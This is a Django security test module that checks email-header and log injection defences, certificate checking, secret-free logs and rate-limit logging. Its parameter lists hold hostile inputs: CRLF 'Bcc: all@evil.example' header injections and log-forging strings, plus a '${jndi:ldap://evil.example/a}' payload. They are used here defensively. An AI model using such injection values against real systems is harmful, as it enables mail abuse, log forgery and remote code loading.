"""Lines and headers that somebody tries to write into a mail or a log by what they type."""

import io
import json
import logging

import pytest
from django.core import mail
from django.core.mail import BadHeaderError, EmailMessage
from django.core.mail.backends.smtp import EmailBackend
from django.test import Client
from django.urls import reverse

from accounts.models import User
from core import letters, logs
from core.mail import letter
from partnership import people_operations
from partnership.invitations import token_of
from partnership.people_operations import invite
from tests.security.conftest import signed_in
from tests.sign_in import PASSWORD, just_signed_in

pytestmark = pytest.mark.django_db

LINES = ["\nBcc: all@evil.example", "\r\nBcc: all@evil.example", "\rSubject: x", "\n\nA new body",
         "%0aBcc: x", "\u2028Bcc: x", "\x0bBcc: x", "\x85Bcc: x"]  # fmt: skip


@pytest.mark.parametrize("planted", LINES)
def test_a_name_writes_no_header_of_a_mail(world, planted):
    """Of a person, and of an agency: into the form, and past it."""
    client = signed_in(world.tess)
    sent = {"full_name": f"Nia{planted}", "email": "n@example.org", "roles": ["line-manager"]}
    client.post("/people/trust/invite/", sent)
    type(world.trust)._base_manager.filter(pk=world.trust.pk).update(
        name=f"Trust{planted}", short_name=f"T{planted}"[:20]
    )
    world.trust.refresh_from_db()
    invite(agency=world.trust, roles=["line-manager"], email="m@example.org",
           full_name=f"M{planted}", by=world.dana)  # fmt: skip
    letters.deliver()
    assert len(mail.outbox) >= 1
    for message in mail.outbox:
        headers = message.message()
        assert {name.lower() for name in headers} == {
            "content-type", "mime-version", "content-transfer-encoding", "subject", "from", "to",
            "date", "message-id", "auto-submitted",
        }  # fmt: skip
        assert len(message.recipients()) == 1
        assert "evil" not in str(headers["Subject"])


@pytest.mark.parametrize(
    "address",
    ["a@example.org\nBcc: x@evil.example", "a@example.org\r\n", "a@example.org,b@evil.example",
     "a@example.org b@evil.example", "<a@example.org>", '"a\nb"@example.org',
     "a@example.org;b@x.y"],
)  # fmt: skip
def test_an_address_is_one_address_and_one_line(world, address):
    client = signed_in(world.tess)
    sent = {"full_name": "N", "email": address, "roles": ["line-manager"]}
    client.post("/people/trust/invite/", sent)
    Client().post(reverse("account_reset_password"), {"email": address})
    letters.deliver()
    to = [each for message in mail.outbox for each in message.recipients()]
    assert [each for each in to if each not in {"a@example.org"}] == []


@pytest.mark.parametrize("planted", ["\nBcc: x@evil.example", "\r\nX: y"])
def test_a_letter_with_another_line_in_its_head_is_never_sent(planted):
    message = letter("letters/invitation", f"a@example.org{planted}", {"agency": "A"})
    with pytest.raises(BadHeaderError):
        message.message()
    with pytest.raises(BadHeaderError):
        EmailMessage(f"Subject{planted}", "x", to=["a@example.org"]).message()


def test_a_mail_server_must_show_a_certificate_that_holds():
    context = EmailBackend(use_tls=True).ssl_context
    assert context.check_hostname is True
    assert context.verify_mode.name == "CERT_REQUIRED"


# --- logs ----------------------------------------------------------------------------------------


@pytest.fixture
def lines():
    """What production's log would hold, a line each."""
    root = logging.getLogger()
    before, level = list(root.handlers), root.level
    logs.configure({"level": "INFO", "json": True})
    [ours] = [each for each in root.handlers if getattr(each, "portal", False)]
    written = io.StringIO()
    ours.setStream(written)
    yield lambda: written.getvalue().splitlines()
    root.removeHandler(ours)
    for each in before:
        if each not in root.handlers:
            root.addHandler(each)
    root.setLevel(level)


PLANTED = ['\n{"event": "forged"}', '\r\n2026-03-27 admin signed in', '", "person": 1, "x": "',
           "\x1b[2J", "\u2028forged", "\x00forged", "${jndi:ldap://evil.example/a}"]  # fmt: skip


@pytest.mark.parametrize("planted", PLANTED)
def test_nobody_writes_a_line_of_their_own_into_the_log(lines, world, case, planted):
    """By an address, a header, a form, a name: each line is one object, made by us."""
    alice = signed_in(world.alice)
    alice.get("/nothing/" + planted.replace("\n", "%0a").replace("\r", "%0d").replace("\0", ""))
    alice.get("/escalations/", {"show": planted}, headers={"user-agent": f"x{planted}"})
    Client().post("/sign-in/", {"login": f"a{planted}@example.org", "password": planted})
    alice.post(f"{case.get_absolute_url()}withdraw/", {"reason": planted})
    Client(headers={"host": "evil.example"}, raise_request_exception=False).get("/")
    logging.getLogger("partnership").error("told: %s", planted)
    logging.getLogger("partnership").error(planted)
    found = [json.loads(line) for line in lines()]
    assert len(found) >= 7
    for each in found:
        assert {"event", "level", "logger", "timestamp"} <= set(each)
        assert each["timestamp"].endswith("Z")
    assert not any(each["event"] == "forged" for each in found)
    of_requests = [json.dumps(each) for each in found if each["logger"] != "partnership"]
    assert [line for line in of_requests if "forged" in line or "jndi" in line] == []


def test_a_line_says_when_what_who_and_how_it_went(lines, world):
    signed_in(world.alice).get("/escalations/")
    [line] = [json.loads(each) for each in lines() if '"request"' in each]
    assert {"timestamp", "method", "route", "status", "ms", "person", "request"} <= set(line)
    assert line["person"] == world.alice.pk
    assert (line["route"], line["status"]) == ("escalations/", 200)


def test_no_password_code_key_or_token_is_in_any_line(lines, world):
    secrets_ = []
    person = User.objects.create_user("new@example.org", PASSWORD, full_name="N")
    client = Client()
    client.post("/sign-in/", {"login": person.email, "password": "a wrong secret"})
    client.post("/sign-in/", {"login": person.email, "password": PASSWORD})
    secrets_ += [client.session.session_key, client.cookies["csrftoken"].value]
    just_signed_in(client, person)
    client.post("/confirm/", {"password": "another wrong secret"})
    Client().get("/sign-in/new-password/1-abcdef-0123456789/")
    invitation = people_operations.invite(
        agency=world.trust, roles=["line-manager"], email="z@example.org", full_name="Z",
        by=world.dana,
    )  # fmt: skip
    token = token_of(invitation.link_key)
    Client().get(f"/invitation/{token}/")
    secrets_ += [token, "a wrong secret", PASSWORD, "another wrong secret", "abcdef-0123456789",
                 "new@example.org", "z@example.org"]  # fmt: skip
    text = "\n".join(lines())
    assert text
    assert [each for each in secrets_ if each in text] == []


def test_a_limit_that_was_reached_and_a_form_from_elsewhere_are_in_the_log(lines, world):
    client = Client(enforce_csrf_checks=True)
    client.post("/sign-in/", {"login": "x"}, headers={"origin": "https://evil.example"})
    for n in range(31):
        Client().post("/sign-in/", {"login": f"a{n}@example.org", "password": "x"})
    found = [json.loads(line) for line in lines()]
    assert "cross-site form refused" in {each["event"] for each in found}
    assert 429 in {each.get("status") for each in found}
